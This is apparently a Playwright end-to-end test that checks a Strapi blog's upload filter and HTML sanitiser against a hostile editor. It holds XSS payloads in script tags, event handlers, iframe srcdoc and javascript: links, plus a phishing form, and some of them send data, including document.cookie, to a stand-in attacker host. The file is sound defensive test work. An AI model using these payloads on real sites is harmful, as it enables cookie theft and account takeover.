import { expect, test, type APIRequestContext, type Page } from '@playwright/test';
import { editorHeaders } from '../support/editor';
import { E2E_STRAPI_URL } from '../support/stack';

/**
 * An editor's password in the wrong hands: whatever is written in a post or sent to the media
 * library, nothing of it runs for a visitor (a signed-in volunteer among them), on the published
 * site or in the preview. Not blocked by the page's policy: gone from the page.
 */

const ATTACKER = 'https://attaquant.example';
// A 1×1 PNG: what the media library takes.
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

function hostileBody(image: string) {
  return [
    'Une nouvelle ordinaire.',
    '',
    `<script>window.pwned = 'script'; fetch('${ATTACKER}/script')</script>`,
    '<script src="/uploads/x_1a2b3c.js"></script>',
    `<img src="x" onerror="window.pwned = 'img'; fetch('${ATTACKER}/img')">`,
    `<iframe srcdoc="<script>parent.pwned = 'iframe'</script>"></iframe>`,
    `<svg onload="window.pwned = 'svg'"><script>window.pwned = 'svg'</script></svg>`,
    `<p><a href="javascript:fetch('${ATTACKER}/lien')">Le programme complet</a></p>`,
    `<form action="${ATTACKER}/formulaire"><input name="iban"><button>Valider</button></form>`,
    '',
    `![Le plan de la brocante](${image})`,
  ].join('\n');
}

async function mediaUpload(request: APIRequestContext, name: string, mimeType: string, buffer: Buffer) {
  return request.post(`${E2E_STRAPI_URL}/upload`, {
    headers: await editorHeaders(request),
    multipart: { files: { name, mimeType, buffer }, fileInfo: JSON.stringify({ name }) },
  });
}

/** Whatever the page would try on the attacker's behalf: a dialog, a request to them, a policy violation. */
async function watch(page: Page) {
  const attempts: string[] = [];
  page.on('dialog', (dialog) => {
    attempts.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (request.url().startsWith(ATTACKER)) attempts.push(`request: ${request.url()}`);
  });
  await page.route(`${ATTACKER}/**`, (route) => route.abort());
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      (window as unknown as { violations: string[] }).violations ??= [];
      (window as unknown as { violations: string[] }).violations.push(
        `${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}`,
      );
    });
  });
  return attempts;
}

async function expectNothingRan(page: Page, attempts: string[]) {
  const article = page.getByRole('article');
  await expect(article.getByText('Une nouvelle ordinaire.')).toBeVisible();
  await expect(article.getByRole('img', { name: 'Le plan de la brocante' })).toBeVisible();
  expect(await article.locator('script, iframe, svg, form, input, [onerror], [onload], [srcdoc]').count()).toBe(0);
  // The link's words stay, without the address that would have run.
  const link = article.getByText('Le programme complet');
  await expect(link).toBeVisible();
  expect(await link.getAttribute('href')).toBeNull();
  await link.click();
  // A script the click set off has run by the next frame.
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
  expect(await page.evaluate(() => (window as unknown as { pwned?: string }).pwned)).toBeUndefined();
  const violations = await page.evaluate(() => (window as unknown as { violations?: string[] }).violations ?? []);
  expect(violations).toEqual([]);
  expect(attempts).toEqual([]);
}

test('a hostile editor: the media library refuses scripts, pages and SVG; posts lose every script', async ({
  browser,
  page,
  request,
}) => {
  test.setTimeout(150_000);
  for (const [name, mimeType, content] of [
    ['x.js', 'text/javascript', `fetch('${ATTACKER}/?' + document.cookie)`],
    ['page.html', 'text/html', '<!doctype html><script>alert(document.domain)</script>'],
    ['logo.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ['photo.png', 'image/png', 'alert(document.domain)'],
  ] as const) {
    const refused = await mediaUpload(request, name, mimeType, Buffer.from(content));
    expect(refused.status(), name).toBe(400);
    expect((await refused.json()).error.message).toMatch(/^Ce fichier n'est pas accepté/);
  }
  const image = await mediaUpload(request, 'plan.png', 'image/png', PNG);
  expect(image.status()).toBe(201);
  const imageUrl: string = (await image.json())[0].url;

  const headers = await editorHeaders(request);
  const slug = `2027/piege-${Date.now()}`;
  const body = hostileBody(imageUrl);
  const created = await request.post(`${E2E_STRAPI_URL}/content-manager/collection-types/api::post.post`, {
    headers,
    data: { title: 'Une nouvelle piégée', slug, excerpt: 'Rien ne doit s’y exécuter.', body },
  });
  expect(created.status()).toBe(201);
  const { documentId } = (await created.json()).data;

  // The preview of the draft, as the panel frames it.
  const address = await request.get(
    `${E2E_STRAPI_URL}/content-manager/preview/url/api::post.post?documentId=${documentId}&status=draft`,
    { headers },
  );
  // With the page's policy switched off: the sanitiser alone keeps the draft from running anything. (With
  // it on, Chrome reports the handlers the sanitiser parses and drops, though none of them could ever run.)
  const unprotected = await browser.newContext({ bypassCSP: true });
  const preview = await unprotected.newPage();
  const previewAttempts = await watch(preview);
  await preview.goto((await address.json()).data.url);
  await expect(preview.getByRole('heading', { level: 1 })).toHaveText('Une nouvelle piégée');
  await expectNothingRan(preview, previewAttempts);
  await unprotected.close();

  // Published: the site is rebuilt with it.
  const published = await request.post(
    `${E2E_STRAPI_URL}/content-manager/collection-types/api::post.post/${documentId}/actions/publish`,
    { headers, data: {} },
  );
  expect(published.status()).toBe(200);
  const visitor = await page.context().newPage();
  const siteAttempts = await watch(visitor);
  await expect(async () => {
    const response = await visitor.goto(`/blog/${slug}/`);
    expect(response?.status()).toBe(200);
  }).toPass({ timeout: 90_000, intervals: [1000] });
  await expect(visitor.getByRole('heading', { level: 1 })).toHaveText('Une nouvelle piégée');
  await expectNothingRan(visitor, siteAttempts);
});
